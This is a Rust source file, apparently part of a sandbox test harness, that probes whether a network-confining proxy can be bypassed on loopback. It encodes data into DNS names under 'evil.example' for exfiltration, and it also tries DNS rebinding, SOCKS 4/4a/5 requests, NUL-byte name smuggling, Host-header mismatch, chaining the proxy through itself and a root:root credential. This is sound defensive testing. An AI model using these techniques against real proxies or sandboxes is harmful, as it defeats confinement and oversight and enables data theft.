//! Attempts 37, and 40 and 41 where there is a way out: names, and what a proxy can be asked for.
//!
//! The parameters name a proxy (`proxy_port`), a service behind it that may be reached (`web_port` on
//! 127.0.0.1) and one that may not (the same port on 127.0.0.2). Whoever answers says which one it is, and
//! the harness counts who came and which names were looked up. Nothing leaves the machine: every address
//! here is a loopback one.

use crate::net::{connect, datagrams, port, route};
use crate::outcome::{At, Attempted, Outcome, blocked, refused, succeeded};
use crate::sockets::{abstract_address, unix_echo};
use crate::sys::{self, close};
use crate::table::{Attempt, Control, Ctx, Tally, contains};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

const P: Control = Control::Params;
const WEB: &[&str] = &["proxy_port!", "web_port!", "reached!"];
const NAMED: &[&str] = &["names_port!", "web_port!", "reached!"];
/// A name that carries what was stolen.
const STOLEN: &str = "c2VjcmV0LWtleQ.x7f3a";

#[rustfmt::skip]
pub const TABLE: &[Attempt] = &[
    Attempt::new(37, "dns-udp", "ask a name server by UDP for a name that carries data", P, &["udp_port!"], |x| dns(x, true)),
    Attempt::new(37, "dns-tcp", "the same by TCP", P, &["tcp_port!"], |x| dns(x, false)),
    Attempt::new(37, "dns-servers", "route to the host's name servers, which somebody told us", Control::Route, &["resolvers!"], |x| servers(x)),
    Attempt::new(37, "dns-connect", "CONNECT to a name server", P, &["proxy_port!", "tcp_port!"], |x| dns_connect(x)),
    Attempt::new(37, "dns-socks-udp", "SOCKS UDP ASSOCIATE and a datagram to a name server", P, &["proxy_port!", "udp_port!"], dns_socks_udp),
    Attempt::new(37, "name-connect", "CONNECT to a name that carries data", P, WEB, |x| tunnel(x, &format!("{STOLEN}.evil.example:{{web}}"))),
    Attempt::new(37, "name-get", "GET a URL with a name that carries data", P, WEB, |x| get(x, &format!("http://{STOLEN}.evil.example:{{web}}/"))),
    Attempt::new(37, "name-socks", "SOCKS with a name that carries data", P, WEB, |x| socks(x, format!("{STOLEN}.evil.example").as_bytes())),
    Attempt::new(37, "name-below", "the same below a name that was granted by itself", P, WEB, |x| tunnel(x, &format!("{STOLEN}.granted.example:{{web}}"))),
    Attempt::new(37, "name-beside", "a name that only ends like a granted one", P, WEB, |x| tunnel(x, "stolen-granted.example:{web}")),
    Attempt::new(37, "name-other-port", "a granted name at another port", P, &["proxy_port!", "tls_port!", "reached!"], |x| tunnel(x, "x.wild.example:{tls}")),
    Attempt::new(37, "name-nul", "a NUL between the data and a granted name", P, WEB, |x| socks(x, format!("{STOLEN}.evil.example\0.wild.example").as_bytes())),
    Attempt::new(37, "name-long", "labels as long as they come, below no grant", P, WEB, |x| socks(x, format!("{0}.{0}.{0}.evil.example", "s".repeat(63)).as_bytes())),
    Attempt::new(37, "name-host", "the name only in Host; the target is granted", P, &["proxy_by_host!", "web_port!", "reached!"], |x| raw_by(x, "proxy_by_host", &format!("GET http://granted.example:{{web}}/ HTTP/1.1\r\nHost: {STOLEN}.evil.example:{{web}}\r\n\r\n"))),
    Attempt::new(37, "rebind-connect", "CONNECT to a granted name that turns to another address", P, WEB, |x| again(x, |x| tunnel(x, "flip.example:{web}"))),
    Attempt::new(37, "rebind-get", "the same with GET", P, WEB, |x| again(x, |x| get(x, "http://flip.example:{web}/"))),
    Attempt::new(37, "rebind-keepalive", "the same within one connection to the proxy", P, WEB, |x| raw(x, &"GET http://flip.example:{web}/ HTTP/1.1\r\nHost: flip.example:{web}\r\n\r\n".repeat(3))),
    Attempt::new(37, "rebind-socks", "the same with SOCKS", P, WEB, |x| again(x, |x| socks(x, b"flip.example"))),
    Attempt::new(37, "rebind-both", "a granted name with a good address and a bad one", P, WEB, |x| again(x, |x| tunnel(x, "both.example:{web}"))),
    Attempt::new(37, "rebind-mapped", "a granted name whose address is an IPv4-mapped one", P, WEB, |x| tunnel(x, "mapped.example:{web}")),
    Attempt::new(37, "rebind-localhost", "a granted wildcard that leads to the loopback", P, WEB, |x| tunnel(x, "inner.wild.example:{web}")),
    Attempt::new(37, "inner-server", "ask the name server inside for a name that carries data, and connect", P, NAMED, |x| named(x, &format!("{STOLEN}.evil.example"))),
    Attempt::new(37, "inner-server-below", "the same below a name that was granted by itself", P, NAMED, |x| named(x, &format!("{STOLEN}.granted.example"))),
    Attempt::new(37, "inner-server-proxy", "the address for such a name, asked for at the proxy", P, &["names_port!", "proxy_port!", "web_port!", "reached!"], made_up_connect),
    Attempt::new(37, "inner-server-rebind", "a granted name that turns, by the name server inside", P, NAMED, |x| again(x, |x| named(x, "flip.example"))),
    Attempt::new(37, "inner-server-address", "an address that the name server inside never gave (control: the address itself)", P, &["web_port!", "reached!"], |x| direct(x, if x.outside() { [127, 0, 0, 2] } else { [198, 19, 77, 77] }, b"GET / HTTP/1.0\r\n\r\n")),
    Attempt::new(37, "inner-server-case", "a forbidden name in other cases, by the name server inside", P, NAMED, |x| named(x, "FORBIDDEN.wild.Example")),
    Attempt::new(40, "socks4", "raw SOCKS 4", P, WEB, socks4),
    Attempt::new(40, "socks4a", "raw SOCKS 4a with a name", P, WEB, socks4a),
    Attempt::new(40, "socks-bind", "SOCKS BIND (control: CONNECT, which is as much as naive proxies have)", P, WEB, |x| socks_raw(x, if x.outside() { 1 } else { 2 }, &[1, 127, 0, 0, 2])),
    Attempt::new(40, "socks-password", "SOCKS with a user's name and password", P, WEB, socks_password),
    Attempt::new(40, "proxy-authorization", "CONNECT with somebody's Proxy-Authorization", P, WEB, |x| raw(x, "CONNECT 127.0.0.2:{web} HTTP/1.1\r\nProxy-Authorization: Basic cm9vdDpyb290\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n")),
    Attempt::new(40, "through-itself", "CONNECT to the proxy's own port, then from there", P, &["proxy_port!", "proxy_own!", "web_port!", "reached!"], |x| raw(x, "CONNECT 127.0.0.1:{own} HTTP/1.1\r\n\r\nCONNECT 127.0.0.2:{web} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n")),
    Attempt::new(40, "direct-loopback", "connect to a loopback address at a port that was granted elsewhere", P, &["web_port!", "reached!"], |x| direct(x, [127, 0, 0, 2], b"GET / HTTP/1.0\r\n\r\n")),
    Attempt::new(41, "own-listener", "ask our own listener for what another plugin may reach", P, &["proxy_port!", "neighbour_port!", "reached!"], |x| raw(x, "CONNECT 127.0.0.1:{neighbour} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n")),
    Attempt::new(41, "abstract", "the relay of another plugin by an abstract name", P, &["abstract!"], |x| unix_echo(&abstract_address(x)?, libc::SOCK_STREAM)),
    Attempt::new(41, "inherited", "an inherited socket of any network", Control::Run, &[], |_| inherited()),
];

/// `text` with the ports that the parameters name.
pub fn filled(ctx: &Ctx, text: &[u8]) -> Result<Vec<u8>, Outcome> {
    let mut bytes = text.to_vec();
    let ports = [
        ("{web}", "web_port", 0),
        // 16 bits too many.
        ("{wrapped}", "web_port", 65536),
        ("{web6}", "web6_port", 0),
        ("{tls}", "tls_port", 0),
        ("{own}", "proxy_own", 0),
        ("{neighbour}", "neighbour_port", 0),
    ];
    for (word, name, more) in ports {
        while let Some(at) = bytes.windows(word.len()).position(|w| w == word.as_bytes()) {
            let number = u32::from(port(ctx, name)?) + more;
            bytes.splice(at..at + word.len(), number.to_string().bytes());
        }
    }
    Ok(bytes)
}

/// A connection to the proxy that a parameter names.
pub fn proxy(ctx: &Ctx, name: &str) -> Result<i32, Outcome> {
    let to = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), port(ctx, name)?);
    let fd = connect(to, 0).at("connect to the proxy")?;
    // What is written in pieces shall arrive in pieces.
    let on = 1i32;
    let _ = sys!(libc::SYS_setsockopt, fd, libc::IPPROTO_TCP, libc::TCP_NODELAY, &raw const on, 4);
    Ok(fd)
}

/// Everything that comes until `enough` or the end, at most for 10 s.
pub fn read_to(fd: i32, enough: impl Fn(&[u8]) -> bool) -> Vec<u8> {
    let end = Instant::now() + Duration::from_secs(10);
    let mut got = Vec::new();
    while Instant::now() < end && got.len() < 1 << 20 && !enough(&got) {
        if sys::poll(fd, libc::POLLIN, Duration::from_millis(100)) {
            match sys::read_fd(fd) {
                Ok(bytes) if !bytes.is_empty() => got.extend(bytes),
                _ => break,
            }
        }
    }
    got
}

/// Says `bytes`, ends its own direction and reads the rest.
pub fn converse(fd: i32, bytes: &[u8]) -> Vec<u8> {
    // A proxy may refuse before it has read everything.
    let _ = sys::write_all(fd, bytes, Instant::now() + Duration::from_secs(5));
    let _ = sys!(libc::SYS_shutdown, fd, libc::SHUT_WR);
    let got = read_to(fd, |_| false);
    close(fd);
    got
}

/// What came back, judged: the other service's word is a success; otherwise the statuses in their order.
pub fn judged(ctx: &Ctx, got: &[u8]) -> Attempted {
    let text = String::from_utf8_lossy(got);
    let shown: String = text.chars().take(300).collect();
    if contains(got, ctx.need("reached")?.as_bytes()) {
        return Ok(succeeded(shown));
    }
    let statuses: Vec<&str> = text
        .split("HTTP/1.")
        .skip(1)
        .filter_map(|answer| answer.get(2..5))
        .filter(|status| status.bytes().all(|b| b.is_ascii_digit()))
        .collect();
    let said = match got {
        [21, _, _, _, _, _, alert, ..] => format!("alert-{alert}"),
        [] => "closed".to_owned(),
        _ if statuses.is_empty() => "other".to_owned(),
        // An alert within the tunnel.
        _ => match got.windows(6).position(|w| w[0] == 21 && w[1] == 3 && w[3..5] == [0, 2]) {
            Some(at) => {
                let alert = got.get(at + 6).copied().unwrap_or_default();
                format!("{},alert-{alert}", statuses.join(","))
            }
            None => statuses.join(","),
        },
    };
    Ok(refused(said, shown))
}

/// Says exactly this to the proxy.
pub fn raw(ctx: &Ctx, text: impl AsRef<[u8]>) -> Attempted {
    raw_by(ctx, "proxy_port", text)
}

/// The same to a proxy of another reading.
pub fn raw_by(ctx: &Ctx, proxy_name: &str, text: impl AsRef<[u8]>) -> Attempted {
    let bytes = filled(ctx, text.as_ref())?;
    judged(ctx, &converse(proxy(ctx, proxy_name)?, &bytes))
}

/// `CONNECT` without a `Host` beside it, so that only the target decides, and a request in the tunnel.
pub fn tunnel(ctx: &Ctx, authority: impl AsRef<[u8]>) -> Attempted {
    let authority = authority.as_ref();
    raw(ctx, [b"CONNECT ", authority, b" HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n"].concat())
}

/// A URL of HTTP/1.0, which needs no `Host`, so that only the target decides.
pub fn get(ctx: &Ctx, url: impl AsRef<[u8]>) -> Attempted {
    raw(ctx, [b"GET ", url.as_ref(), b" HTTP/1.0\r\n\r\n"].concat())
}

/// Three more times, for names that change their mind: all answers, or the first success.
fn again(ctx: &Ctx, once: fn(&Ctx) -> Attempted) -> Attempted {
    let (mut said, mut details) = (Vec::new(), Vec::new());
    for _ in 0..4 {
        let outcome = once(ctx)?;
        match outcome.said {
            Some(word) => said.push(word),
            None => return Ok(outcome),
        }
        details.push(outcome.detail);
    }
    Ok(refused(said.join(" "), details.join(" | ").chars().take(600).collect::<String>()))
}

/// The SOCKS 5 greeting.
fn greeted(ctx: &Ctx) -> Result<i32, Outcome> {
    let fd = proxy(ctx, "proxy_port")?;
    let end = Instant::now() + Duration::from_secs(5);
    sys::write_all(fd, &[5, 1, 0], end).map_err(|e| e.0).at("greet the proxy")?;
    let greeting = read_to(fd, |b| b.len() >= 2);
    if greeting == [5, 0] {
        return Ok(fd);
    }
    close(fd);
    Err(refused("socks-greeting", format!("the proxy greets with {greeting:?}")))
}

/// A SOCKS 5 request at the granted port, and a request for the web through what opens.
pub fn socks_raw(ctx: &Ctx, command: u8, address: &[u8]) -> Attempted {
    let port = port(ctx, "web_port")?.to_be_bytes();
    let fd = greeted(ctx)?;
    let request = [&[5, command, 0], address, &port].concat();
    let end = Instant::now() + Duration::from_secs(5);
    sys::write_all(fd, &request, end).map_err(|e| e.0).at("ask the proxy")?;
    let reply = read_to(fd, |b| b.len() >= 10);
    if reply.get(1) != Some(&0) {
        close(fd);
        let said = reply.get(1).map_or("closed".into(), |code| format!("socks-{code}"));
        return Ok(refused(said, format!("the proxy answers {:?}", reply.get(..2))));
    }
    judged(ctx, &converse(fd, b"GET / HTTP/1.0\r\n\r\n"))
}

/// A SOCKS 5 request with a name.
pub fn socks(ctx: &Ctx, name: &[u8]) -> Attempted {
    let length = u8::try_from(name.len()).unwrap_or(u8::MAX);
    socks_raw(ctx, 1, &[&[3, length], name].concat())
}

fn socks4(ctx: &Ctx) -> Attempted {
    let [high, low] = port(ctx, "web_port")?.to_be_bytes();
    let fd = proxy(ctx, "proxy_port")?;
    let request = [&[4, 1, high, low, 127, 0, 0, 2, 0], &b"GET / HTTP/1.0\r\n\r\n"[..]].concat();
    judged(ctx, &converse(fd, &request))
}

fn socks4a(ctx: &Ctx) -> Attempted {
    let [high, low] = port(ctx, "web_port")?.to_be_bytes();
    let fd = proxy(ctx, "proxy_port")?;
    let head: &[u8] = &[4, 1, high, low, 0, 0, 0, 1, 0];
    judged(ctx, &converse(fd, &[head, b"forbidden.example\0", b"GET / HTTP/1.0\r\n\r\n"].concat()))
}

fn socks_password(ctx: &Ctx) -> Attempted {
    let [high, low] = port(ctx, "web_port")?.to_be_bytes();
    let fd = proxy(ctx, "proxy_port")?;
    let request: &[u8] =
        &[5, 1, 2, 1, 4, b'r', b'o', b'o', b't', 1, b'x', 5, 1, 0, 1, 127, 0, 0, 2, high, low];
    judged(ctx, &converse(fd, &[request, b"GET / HTTP/1.0\r\n\r\n"].concat()))
}

/// What the name server answers for a name.
pub fn resolved(ctx: &Ctx, name: &str) -> Result<[u8; 4], Outcome> {
    let server = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), port(ctx, "names_port")?);
    let fd = datagrams(server)?;
    let end = Instant::now() + Duration::from_secs(5);
    sys::write_all(fd, &query_for(name), end).map_err(|e| e.0).at("ask the name server")?;
    // One datagram; the address stands at its end.
    let answer = match sys::poll(fd, libc::POLLIN, Duration::from_secs(5)) {
        true => sys::read_fd(fd).at("read the name server's answer"),
        false => Err(refused("no-answer", "the name server says nothing")),
    };
    close(fd);
    let answer = answer?;
    match (answer.get(7), answer.last_chunk()) {
        (Some(1..), Some(address)) => Ok(*address),
        _ => Err(refused("no-address", format!("the name server answers {answer:?}"))),
    }
}

/// A connection to an address as programs make it that know of no proxy.
pub fn direct(ctx: &Ctx, address: [u8; 4], bytes: &[u8]) -> Attempted {
    direct_at(ctx, address, "web_port", bytes)
}

/// The same at the port that a parameter names.
pub fn direct_at(ctx: &Ctx, address: [u8; 4], port_name: &str, bytes: &[u8]) -> Attempted {
    let to = SocketAddr::from((address, port(ctx, port_name)?));
    judged(ctx, &converse(connect(to, 0).at("connect")?, bytes))
}

/// A name by the name server, and a connection to what it answers.
fn named(ctx: &Ctx, name: &str) -> Attempted {
    direct(ctx, resolved(ctx, name)?, b"GET / HTTP/1.0\r\n\r\n")
}

/// The name server's answer for a name that carries data, asked for at the proxy.
fn made_up_connect(ctx: &Ctx) -> Attempted {
    let address = Ipv4Addr::from(resolved(ctx, &format!("{STOLEN}.evil.example"))?);
    tunnel(ctx, format!("{address}:{{web}}"))
}

/// A query for an address of the name that carries the data.
fn query() -> Vec<u8> {
    query_for(&format!("{STOLEN}.evil.example"))
}

/// A query for an address of a name (RFC 1035, 4.1).
fn query_for(name: &str) -> Vec<u8> {
    let mut bytes = vec![0x7f, 0x3a, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(label.len() as u8);
        bytes.extend(label.bytes());
    }
    bytes.extend([0, 0, 1, 0, 1]);
    bytes
}

/// The query with its length in front, as TCP has it.
fn query_tcp() -> Vec<u8> {
    let query = query();
    [&(query.len() as u16).to_be_bytes()[..], &query].concat()
}

/// The stand-in for a name server sends back what it gets.
fn asked(fd: i32, query: &[u8]) -> Attempted {
    let sent = sys::write_all(fd, query, Instant::now() + Duration::from_secs(2));
    if let Err((e, _)) = sent {
        close(fd);
        return Err(blocked(e.0, "send"));
    }
    let end = Instant::now() + Duration::from_secs(2);
    let (mut got, mut error) = (Vec::new(), None);
    while Instant::now() < end && !contains(&got, query) && error.is_none() {
        if sys::poll(fd, libc::POLLIN, Duration::from_millis(100)) {
            match sys::read_fd(fd) {
                Ok(bytes) if !bytes.is_empty() => got.extend(bytes),
                Ok(_) => break,
                Err(e) => error = Some(e.0),
            }
        }
    }
    close(fd);
    match (contains(&got, query), error) {
        (true, _) => Ok(succeeded("the name server got the query")),
        (false, Some(errno)) => Err(blocked(errno, "nobody took the query")),
        (false, None) => Ok(blocked(None, "nobody answered")),
    }
}

fn dns(ctx: &Ctx, by_udp: bool) -> Attempted {
    let name = if by_udp { "udp_port" } else { "tcp_port" };
    let to = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), port(ctx, name)?);
    if by_udp {
        return asked(datagrams(to)?, &query());
    }
    asked(connect(to, 0).at("connect")?, &query_tcp())
}

/// A route lookup for each; nothing is sent.
fn servers(ctx: &Ctx) -> Attempted {
    let mut tally = Tally::default();
    for server in ctx.list("resolvers") {
        if let Ok(host) = server.parse::<IpAddr>() {
            match route(ctx, host, 53) {
                Ok(_) => tally.win(server),
                Err(o) => tally.add::<()>(server, Err(crate::outcome::Errno(o.errno.unwrap_or(0)))),
            }
        }
    }
    tally.end("no name server is named")
}

fn dns_connect(ctx: &Ctx) -> Attempted {
    let to = port(ctx, "tcp_port")?;
    let fd = proxy(ctx, "proxy_port")?;
    let ask = format!("CONNECT 127.0.0.1:{to} HTTP/1.1\r\n\r\n");
    let end = Instant::now() + Duration::from_secs(5);
    sys::write_all(fd, ask.as_bytes(), end).map_err(|e| e.0).at("ask the proxy")?;
    let reply = read_to(fd, |b| contains(b, b"\r\n\r\n"));
    let status = String::from_utf8_lossy(&reply).split(' ').nth(1).unwrap_or("closed").to_owned();
    if status != "200" {
        close(fd);
        return Ok(refused(status, "the proxy refuses"));
    }
    asked(fd, &query_tcp())
}

fn dns_socks_udp(ctx: &Ctx) -> Attempted {
    let server = port(ctx, "udp_port")?.to_be_bytes();
    let fd = greeted(ctx)?;
    let end = Instant::now() + Duration::from_secs(5);
    let ask = [5, 3, 0, 1, 0, 0, 0, 0, 0, 0];
    sys::write_all(fd, &ask, end).map_err(|e| e.0).at("ask the proxy")?;
    let reply = read_to(fd, |b| b.len() >= 10);
    let Some(&[5, 0, _, 1, a, b, c, d, high, low]) = reply.get(..10) else {
        close(fd);
        let said = reply.get(1).map_or("closed".into(), |code| format!("socks-{code}"));
        return Ok(refused(said, "no UDP for us"));
    };
    let relay = SocketAddr::from((Ipv4Addr::new(a, b, c, d), u16::from_be_bytes([high, low])));
    let outcome =
        asked(datagrams(relay)?, &[&[0, 0, 0, 1, 127, 0, 0, 1], &server[..], &query()].concat());
    close(fd);
    outcome
}

/// Any descriptor beyond the channel that is a socket of the IP families.
fn inherited() -> Attempted {
    for fd in 4..1024 {
        let (mut domain, mut size) = (0i32, 4u32);
        let option = libc::SO_DOMAIN;
        let asked = sys!(
            libc::SYS_getsockopt,
            fd,
            libc::SOL_SOCKET,
            option,
            &raw mut domain,
            &raw mut size
        );
        if asked.is_ok() && matches!(domain, libc::AF_INET | libc::AF_INET6) {
            return Ok(succeeded(format!("descriptor {fd} is a socket of family {domain}")));
        }
    }
    Ok(blocked(libc::EBADF, "no socket of the IP families beyond the channel"))
}
